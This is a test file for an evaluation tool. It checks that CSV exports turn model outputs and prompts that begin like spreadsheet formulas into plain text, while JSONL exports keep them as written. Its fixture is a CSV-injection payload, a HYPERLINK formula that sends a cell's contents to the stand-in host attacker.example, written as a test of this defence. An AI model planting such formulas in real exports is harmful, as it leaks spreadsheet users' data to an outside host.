// CSV exports are opened in spreadsheets: a model output or a prompt that begins like a formula must arrive
// as text (a leading ' inside a quoted field, as OWASP says), in every CSV writer; JSONL keeps it verbatim.

import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { exportCsv, exportJsonl } from '../../../src/core/runs/export';
import { RunProjection } from '../../../src/core/runs/run-projection';
import { RunStore } from '../../../src/core/runs/run-store';
import { runCli } from '../helpers/cli-run';
import { withSimulator } from '../helpers/simulator';
import { fileWriter, useTempDir } from '../helpers/temp-dir';

const FORMULA = '=HYPERLINK("http://attacker.example/?q="&A1,"click")';
const scripted = (text: string) => `[[sim:respond-b64=${Buffer.from(text).toString('base64')}]]`;

describe('CSV exports and spreadsheet formulas', () => {
  const tmp = useTempDir();
  const write = fileWriter(tmp);

  it('eval -o x.csv neutralises outputs and prompts that begin like formulas; -o x.jsonl keeps them', async () => {
    await withSimulator({}, async (sim) => {
      write('p.txt', '{{ lead }} {{ answer }}');
      write('rows.csv', `lead,answer\n+1,"${scripted(FORMULA).replaceAll('"', '""')}"\n@SUM(A1),${scripted('-2+3')}\nplain,${scripted('fine')}\n`);
      const config = write('c.yaml', 'prompts:\n  - file://p.txt\nproviders:\n  - scalarlm:base\ntests: file://rows.csv\n');
      const env = { XDG_STATE_HOME: tmp.path };
      const csvPath = join(tmp.path, 'cells.csv');
      const result = await runCli(['eval', config, '-o', csvPath, '--url', sim.url], { env });
      assert.equal(result.code, 0, result.stderr);
      const text = readFileSync(csvPath, 'utf8');
      const rows = parse(text, { columns: true }) as Record<string, string>[];
      assert.deepEqual(rows.map((r) => r.output), [`'${FORMULA}`, "'-2+3", 'fine']);
      assert.ok(rows[0].rendered_prompt.startsWith("'+1 "), rows[0].rendered_prompt);
      assert.ok(text.includes(`"'-2+3"`), 'the neutralised field is quoted');
      assert.equal(rows[0].test, '0', 'numbers stay numbers');

      const jsonlPath = join(tmp.path, 'cells.jsonl');
      assert.equal((await runCli(['eval', config, '-o', jsonlPath, '--url', sim.url], { env })).code, 0);
      const outputs = readFileSync(jsonlPath, 'utf8').trimEnd().split('\n').map((l) => (JSON.parse(l) as { output: string }).output);
      assert.deepEqual(outputs, [FORMULA, '-2+3', 'fine']);
    });
  });

  it("eval -o x.csv carries each cell's verdict, score and failure reason (issue 17, smaller)", async () => {
    await withSimulator({}, async (sim) => {
      write('p.txt', 'Answer {{ n }}. [[sim:respond={{ answer }}]]');
      const assertions = `    assert:\n      - type: equals\n        value: yes\n      - type: javascript\n        value: ${JSON.stringify(`({ pass: output === 'yes', reason: ${JSON.stringify(FORMULA)} })`)}\n`;
      const config = write('c.yaml', `prompts:\n  - file://p.txt\nproviders:\n  - scalarlm:base\ntests:\n  - vars: {n: 1, answer: "yes"}\n${assertions}  - vars: {n: 2, answer: "no"}\n${assertions}  - vars: {n: 3, answer: "none"}\n`);
      const csvPath = join(tmp.path, 'judged.csv');
      const result = await runCli(['eval', config, '-o', csvPath, '--url', sim.url], { env: { XDG_STATE_HOME: tmp.path } });
      assert.equal(result.code, 100, result.stderr);
      const rows = parse(readFileSync(csvPath, 'utf8'), { columns: true }) as Record<string, string>[];
      assert.deepEqual(
        rows.map((r) => [r.output, r.verdict, r.score, r.failure_reason]),
        [
          ['yes', 'pass', '1', ''],
          ['no', 'fail', '0', `equals: Expected output "no" to equal "yes"; javascript: ${FORMULA}`],
          ['none', '', '', ''],
        ],
      );
    });
  });

  it("a run's CSV export (the results panel's Export CSV of a generate run) neutralises them too", async () => {
    await withSimulator({}, async (sim) => {
      const prompts = join(tmp.path, 'prompts.txt');
      writeFileSync(prompts, `=1+1 ${scripted('\tTAB')}\nsafe ${scripted('@cmd')}\n`);
      const result = await runCli(['generate', prompts, '--url', sim.url], { env: { XDG_STATE_HOME: tmp.path } });
      assert.equal(result.code, 0, result.stderr);
      const [run] = new RunStore(join(tmp.path, 'scalarlm-lab', 'runs')).list();
      assert.ok(run, 'the run is stored');
      const items = RunProjection.replay(run.ledgerPath, { keepItems: true }).items;
      const csvPath = join(tmp.path, 'run.csv');
      await exportCsv(items, csvPath);
      const rows = parse(readFileSync(csvPath, 'utf8'), { columns: true }) as Record<string, string>[];
      assert.deepEqual(rows.map((r) => [r.prompt.slice(0, 5), r.response]), [["'=1+1", "'\tTAB"], ['safe ', "'@cmd"]]);
      const jsonlPath = join(tmp.path, 'run.jsonl');
      await exportJsonl(items, jsonlPath);
      assert.equal((JSON.parse(readFileSync(jsonlPath, 'utf8').split('\n')[0]) as { response: string }).response, '\tTAB');
    });
  });
});
